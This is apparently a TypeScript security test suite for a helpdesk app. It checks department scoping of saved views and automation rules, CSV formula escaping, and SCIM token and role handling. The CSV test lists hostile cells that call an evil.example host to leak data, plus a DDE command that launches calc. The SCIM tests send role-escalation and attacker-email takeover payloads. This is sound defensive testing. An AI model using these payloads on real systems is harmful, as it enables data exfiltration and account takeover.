import { beforeEach, describe, expect, it } from "vitest";
import * as scimRoute from "@/app/scim/v2/[[...path]]/route";
import { createApiToken } from "@/lib/api-tokens/create-api-token";
import { createRule, updateRule } from "@/lib/automation/manage-rules";
import { runEventRules } from "@/lib/automation/run-event-rules";
import { cell } from "@/lib/csv/csv";
import { db } from "@/lib/db/client";
import { exportQueueCsv } from "@/lib/requests/export-queue-csv";
import { fileRequest } from "@/lib/requests/file-request";
import { listQueue } from "@/lib/requests/list-queue";
import { setDefaultQueueView } from "@/lib/requests/queue-layout";
import { saveQueueView } from "@/lib/requests/saved-queue-views";
import { createScimToken } from "@/lib/scim/scim-tokens";
import { expectAppError } from "../support/expect-app-error";
import { actorOf, seedDesk, seedPerson, uid } from "../support/factories";

/**
 * Attack probes on what reaches beyond its scope: saved views shared with a department, automation
 * rules acting outside theirs, CSV exports read by a spreadsheet, and SCIM tokens and paths.
 */
type Desk = Awaited<ReturnType<typeof seedDesk>>;
let desk: Desk;
beforeEach(async () => {
  desk = await seedDesk();
});

const file = (title = "Broken chair", actor = desk.requester, typeId = desk.type.id) =>
  fileRequest({ actor, input: { typeId, title, description: "It wobbles", fieldValues: {}, submissionKey: `atk-${uid()}` } });

describe("attack: saved views shared with a department", () => {
  it("another department's agent cannot apply, open by default or widen anything through a shared view's id", async () => {
    const shared = await saveQueueView({ actor: desk.agent, input: { departmentKey: desk.provider.key, name: "Everything", shared: true, filter: { status: "ALL" } } });
    // Their own queue with the other department's view: refused like a bad filter, nothing listed.
    const error = await expectAppError(listQueue({ actor: desk.outsiderAgent, departmentKey: desk.other.key, filter: { saved: shared.id } }), "INVALID_INPUT");
    expect(error.fieldErrors?.saved).toBeDefined();
    await expectAppError(setDefaultQueueView({ actor: desk.outsiderAgent, input: { departmentKey: desk.other.key, view: `saved:${shared.id}` } }), "INVALID_INPUT");
    // The view's own queue is not theirs at all (the queue's routes answer 404 to both codes).
    await expectAppError(listQueue({ actor: desk.outsiderAgent, departmentKey: desk.provider.key, filter: { saved: shared.id } }), "FORBIDDEN");
    await expectAppError(exportQueueCsv({ actor: desk.outsiderAgent, timeZone: "UTC", departmentKey: desk.provider.key, filter: { saved: shared.id } }), "FORBIDDEN");
  });

  it("a stored filter that names another department, a cursor or a requester cannot widen the queue beyond the department and the policy", async () => {
    const mine = await file("Ours");
    const otherType = await db().requestType.create({ data: { departmentId: desk.other.id, slug: `t-${uid()}`, name: "Elsewhere", fields: [] } });
    const theirs = await file("Theirs", desk.requester, otherType.id);
    // A hand-edited row, as an attacker with a database client of their own would not have, but a bug might write.
    const row = await db().savedQueueView.create({
      data: { departmentId: desk.provider.id, ownerId: desk.agent.id, name: `Edited ${uid()}`, shared: true, filter: { status: "ALL", departmentId: desk.other.id, department: desk.other.key, cursor: "x", requesterId: desk.requester.id, q: "" } },
    });
    const page = await listQueue({ actor: desk.agent, departmentKey: desk.provider.key, filter: { saved: row.id } });
    expect(page.rows.map((r) => r.id)).toEqual([mine.id]);
    expect(page.rows.map((r) => r.id)).not.toContain(theirs.id);
  });
});

describe("attack: automation rules outside their department", () => {
  const rule = (overrides: Record<string, unknown> = {}) => ({ departmentId: desk.provider.id, name: `Rule ${uid()}`, trigger: "request_filed" as const, conditions: {}, actions: { addTags: ["probe"] }, ...overrides });

  it("a head cannot create or change another department's rule, nor make one that assigns or follows up outside", async () => {
    const otherHead = await actorOf((await seedPerson({ departmentId: desk.other.id, roles: [{ role: "HEAD", departmentId: desk.other.id }] })).id);
    const ours = await createRule({ actor: desk.head, input: rule() });
    await expectAppError(createRule({ actor: otherHead, input: rule() }), "NOT_FOUND");
    await expectAppError(updateRule({ actor: otherHead, input: { ruleId: ours.id, name: "Hijacked", trigger: "request_filed", conditions: {}, actions: { transferToDepartmentId: desk.other.id } } }), "NOT_FOUND");
    const outside = await expectAppError(createRule({ actor: desk.head, input: rule({ actions: { setAssigneeId: desk.outsiderAgent.id } }) }), "INVALID_INPUT");
    expect(outside.fieldErrors?.["actions.setAssigneeId"]).toBeDefined();
    const follower = await expectAppError(createRule({ actor: desk.head, input: rule({ actions: { addFollowerIds: [ours.actorId] } }) }), "INVALID_INPUT");
    expect(follower.fieldErrors?.["actions.addFollowerIds"]).toBeDefined();
    const theirType = await db().requestType.create({ data: { departmentId: desk.other.id, slug: `t-${uid()}`, name: "Theirs", fields: [] } });
    await expectAppError(createRule({ actor: desk.head, input: rule({ conditions: { typeIds: [theirType.id] } }) }), "INVALID_INPUT");
    expect(await db().automationRule.findUniqueOrThrow({ where: { id: ours.id } })).toMatchObject({ name: ours.name });
    expect(await db().automationRule.count({ where: { departmentId: desk.other.id, name: { startsWith: "Rule " } } })).toBe(0);
  });

  it("a rule's notice reaches only people who may read the request's internal side, whoever it names", async () => {
    await createRule({ actor: desk.head, input: rule({ actions: { notifyPersonIds: [desk.agent.id, desk.outsiderAgent.id, desk.requester.id], notifyMessage: "Internal: VIP, handle first" } }) });
    const request = await file();
    await runEventRules();
    const told = await db().notification.findMany({ where: { requestId: request.id, kind: "automation" }, select: { personId: true } });
    expect(told.map((n) => n.personId)).toEqual([desk.agent.id]);
  });
});

describe("attack: formulas in CSV exports", () => {
  it("never starts a cell with what a spreadsheet reads as a formula, in the queue export's titles and names", async () => {
    const hostile = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"];
    const requester = await seedPerson({ departmentId: desk.other.id, name: '=IMPORTXML("https://evil.example","//a")' });
    for (const title of hostile) await file(`${title} chair`, await actorOf(requester.id));
    const { body } = await exportQueueCsv({ actor: desk.agent, timeZone: "UTC", departmentKey: desk.provider.key, filter: { status: "ALL" } });
    const cells = body.split("\r\n").slice(1, -1).flatMap((line) => [...line.matchAll(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g)].map((m) => m[1]!.replace(/^"|"$/g, "")));
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    // Titles are trimmed when filed: the tab and CR go, the formula stays, quoted.
    for (const title of hostile) expect(body).toContain(cell(`${title} chair`.trim()));
    expect(cell("=1")).toBe("'=1");
    expect(cell('=A1,"x"')).toBe(`"'=A1,""x"""`);
    expect(cell(-3)).toBe("-3"); // a number is a number, not a formula
  });
});

/** /scim/v2 through its route handler, with a bearer token. */
async function scim(method: string, path: string, bearer: string, body?: object) {
  const request = new Request(`http://desk.test/scim/v2${path}`, {
    method,
    headers: { "content-type": "application/scim+json", authorization: `Bearer ${bearer}` },
    body: body ? JSON.stringify(body) : undefined,
  });
  const segments = path.split("?")[0]!.split("/").filter(Boolean);
  const response = await scimRoute[method as "GET"](request, { params: Promise.resolve({ path: segments }) });
  return { status: response.status, json: (await response.json().catch(() => null)) as Record<string, unknown> | null };
}

describe("attack: SCIM token scope and paths", () => {
  it("takes no personal API token as a SCIM token, and grants no role through any attribute or path", async () => {
    const admin = await actorOf((await seedPerson({ departmentId: desk.provider.id, roles: [{ role: "ADMIN" }] })).id);
    const token = (await createScimToken({ actor: admin, input: { name: `IdP ${uid()}` } })).secret;
    const personal = (await createApiToken({ actor: admin, input: { name: "Mine", expiresIn: "30" } })).secret;
    expect((await scim("GET", "/Users", personal)).status).toBe(401);
    expect((await scim("GET", "/Users", `${token}x`)).status).toBe(401);

    const target = desk.requester.id;
    const patches = [
      { op: "add", path: "roles", value: [{ value: "admin", primary: true }] },
      { op: "replace", path: "urn:ietf:params:scim:schemas:core:2.0:User:roles", value: [{ value: "ADMIN" }] },
      { op: "add", path: "entitlements", value: [{ value: "HEAD" }] },
      { op: "add", path: "groups", value: [{ value: desk.provider.id }] },
      { op: "replace", value: { roles: [{ value: "admin" }], "urn:ietf:params:scim:schemas:extension:enterprise:2.0:User": { organization: "admins" } } },
    ];
    for (const op of patches) {
      const r = await scim("PATCH", `/Users/${target}`, token, { schemas: ["urn:ietf:params:scim:api:messages:2.0:PatchOp"], Operations: [op] });
      expect(r.status, JSON.stringify(op)).toBeLessThan(500);
    }
    // SCIM keeps agent, head and HR roles in step (`roles`), never admin: asked for, the person is refused whole.
    const userName = `new-${uid()}@example.com`;
    const asAdmin = await scim("POST", "/Users", token, {
      schemas: ["urn:ietf:params:scim:schemas:core:2.0:User"],
      userName,
      roles: [{ value: "admin" }],
      "urn:ietf:params:scim:schemas:extension:enterprise:2.0:User": { department: desk.provider.name },
    });
    expect(asAdmin.status).toBe(400);
    expect(await db().person.count({ where: { email: userName } })).toBe(0);
    const created = await scim("POST", "/Users", token, {
      schemas: ["urn:ietf:params:scim:schemas:core:2.0:User"],
      userName,
      entitlements: [{ value: "HEAD" }],
      "urn:ietf:params:scim:schemas:extension:enterprise:2.0:User": { department: desk.provider.name },
    });
    expect(created.status).toBe(201);
    const newId = String(created.json!.id);
    // In the department as its home, as the directory import puts people: no agent, head or admin grant.
    expect(await db().person.findUniqueOrThrow({ where: { id: newId }, select: { departmentId: true } })).toEqual({ departmentId: desk.provider.id });
    expect(await db().roleGrant.count({ where: { personId: { in: [target, newId] } } })).toBe(0);
  });

  it("never moves an administrator's email (their sign-in identity), by PATCH or PUT; deactivation stays the identity provider's", async () => {
    const admin = await actorOf((await seedPerson({ departmentId: desk.provider.id, roles: [{ role: "ADMIN" }] })).id);
    const other = await actorOf((await seedPerson({ departmentId: desk.provider.id, roles: [{ role: "ADMIN" }] })).id);
    const token = (await createScimToken({ actor: admin, input: { name: `IdP ${uid()}` } })).secret;
    const patchOp = (Operations: object[]) => ({ schemas: ["urn:ietf:params:scim:api:messages:2.0:PatchOp"], Operations });
    const attacker = `attacker-${uid()}@evil.example`;
    const attempts = [
      () => scim("PATCH", `/Users/${other.id}`, token, patchOp([{ op: "replace", path: "emails[type eq \"work\"].value", value: attacker }])),
      () => scim("PATCH", `/Users/${other.id}`, token, patchOp([{ op: "replace", value: { userName: attacker, emails: [{ value: attacker, primary: true }] } }])),
      () => scim("PUT", `/Users/${other.id}`, token, { schemas: ["urn:ietf:params:scim:schemas:core:2.0:User"], userName: attacker, emails: [{ value: attacker, primary: true }], active: true }),
    ];
    for (const attempt of attempts) {
      const r = await attempt();
      expect(r.status).toBe(409);
      expect(r.json?.scimType).toBe("mutability");
    }
    expect((await db().person.findUniqueOrThrow({ where: { id: other.id } })).email).toBe(other.email);
    // Someone without the admin role is renamed as the identity provider says.
    const renamed = `renamed-${uid()}@example.com`;
    expect((await scim("PATCH", `/Users/${desk.requester.id}`, token, patchOp([{ op: "replace", path: "emails", value: [{ value: renamed, primary: true }] }]))).status).toBe(200);
    expect((await db().person.findUniqueOrThrow({ where: { id: desk.requester.id } })).email).toBe(renamed);
    // The identity provider still offboards an administrator (the last one is kept: tests/db/scim.test.ts).
    expect((await scim("PATCH", `/Users/${other.id}`, token, patchOp([{ op: "replace", path: "active", value: "False" }]))).status).toBe(200);
    expect((await db().person.findUniqueOrThrow({ where: { id: other.id } })).active).toBe(false);
  });

  it("never reaches the people automation rules act as, by id, filter or group membership", async () => {
    const admin = await actorOf((await seedPerson({ departmentId: desk.provider.id, roles: [{ role: "ADMIN" }] })).id);
    const token = (await createScimToken({ actor: admin, input: { name: `IdP ${uid()}` } })).secret;
    const head = await actorOf((await seedPerson({ departmentId: desk.provider.id, roles: [{ role: "HEAD", departmentId: desk.provider.id }] })).id);
    const rule = await createRule({ actor: head, input: { departmentId: desk.provider.id, name: `Rule ${uid()}`, trigger: "request_filed", conditions: {}, actions: { addTags: ["probe"] } } });
    const automation = await db().person.findUniqueOrThrow({ where: { id: rule.actorId }, select: { id: true, email: true } });
    expect((await scim("GET", `/Users/${automation.id}`, token)).status).toBe(404);
    expect((await scim("PATCH", `/Users/${automation.id}`, token, { schemas: ["urn:ietf:params:scim:api:messages:2.0:PatchOp"], Operations: [{ op: "replace", path: "active", value: true }] })).status).toBe(404);
    expect((await scim("GET", `/Users?filter=${encodeURIComponent(`userName eq "${automation.email}"`)}`, token)).json).toMatchObject({ totalResults: 0 });
    const taken = await scim("POST", "/Users", token, { schemas: ["urn:ietf:params:scim:schemas:core:2.0:User"], userName: automation.email, active: true });
    expect(taken.status).toBe(409);
    const moved = await scim("PATCH", `/Groups/${desk.other.id}`, token, { schemas: ["urn:ietf:params:scim:api:messages:2.0:PatchOp"], Operations: [{ op: "add", path: "members", value: [{ value: automation.id }] }] });
    expect(moved.status).toBe(400);
    expect(await db().person.findUniqueOrThrow({ where: { id: automation.id }, select: { active: true, departmentId: true } })).toEqual({ active: false, departmentId: desk.provider.id });
  });
});
